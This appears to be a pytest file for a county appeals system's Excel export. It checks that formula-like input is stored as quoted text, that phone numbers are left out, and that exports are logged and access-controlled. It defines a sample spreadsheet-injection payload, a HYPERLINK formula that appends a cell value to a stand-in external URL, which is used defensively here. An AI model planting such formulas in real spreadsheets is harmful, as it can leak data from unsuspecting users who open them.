"""导出: exactly the rows of the list, harmless to open, and written down."""

from __future__ import annotations

from io import BytesIO
from typing import Any

from openpyxl import load_workbook

from qifu.journal.models import Event
from tests.story import Story
from tests.web.desk.appeals.conftest import SeatOf

EXPORT = "/desk/appeals/export/"
EVIL = '=HYPERLINK("http://x.example/"&A1,"点这里")，请县里帮忙看看这个表'


def book_of(answer: Any) -> Any:
    assert answer.status_code == 200
    return load_workbook(BytesIO(b"".join(answer.streaming_content)))


def test_what_looks_like_a_formula_stays_text(story: Story, seat: SeatOf) -> None:
    story.submitted(problem=EVIL, enterprise_name="@SUM(A1:A9)茶厂")

    book = book_of(seat(story.cast.zhou).post(EXPORT))

    cells = {cell.value: cell for row in book["诉求清单"].iter_rows(min_row=2) for cell in row}
    for words in (EVIL, "@SUM(A1:A9)茶厂"):
        assert cells[words].data_type == "s"
        assert cells[words].quotePrefix


def test_a_sheet_says_what_the_rows_are(story: Story, seat: SeatOf) -> None:
    story.submitted()
    story.submitted()

    book = book_of(seat(story.cast.zhou).post(f"{EXPORT}?state=SUBMITTED&q=流动"))

    said = {row[0].value: row[1].value for row in book["口径说明"].iter_rows()}
    assert said["行数"] == "2件"
    assert said["筛选条件"] == "状态：待受理；搜索：流动"
    assert said["导出人"] == "周敏（zhou）"


def test_no_phone_leaves_with_the_list(story: Story, seat: SeatOf) -> None:
    story.submitted()

    book = book_of(seat(story.cast.zhou).post(EXPORT))

    values = [str(c.value) for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [value for value in values if story.cast.boss.phone in value]


def test_the_journal_knows_who_took_what_but_not_what_was_typed(story: Story, seat: SeatOf) -> None:
    story.submitted()

    seat(story.cast.zhou).post(f"{EXPORT}?state=SUBMITTED&q=流动")

    event = Event.objects.in_county(story.cast.county).get(kind="appeals.exported")
    assert event.actor == story.cast.zhou.pk
    assert event.data == {"count": 1, "filters": {"state": "SUBMITTED"}, "searched": True}


def test_rows_taken_twice_are_written_down_twice(story: Story, seat: SeatOf) -> None:
    story.submitted()
    zhou = seat(story.cast.zhou)

    for _ in range(2):
        assert zhou.post(EXPORT, {"once_key": "same"}).status_code == 200

    taken = Event.objects.in_county(story.cast.county).filter(kind="appeals.exported")
    assert taken.count() == 2


def test_looking_at_the_address_takes_nothing(story: Story, seat: SeatOf) -> None:
    assert seat(story.cast.zhou).get(EXPORT).status_code == 405


def test_keeping_the_system_opens_no_list(story: Story, seat: SeatOf) -> None:
    story.submitted()

    assert seat(story.cast.sys).post(EXPORT).status_code == 403
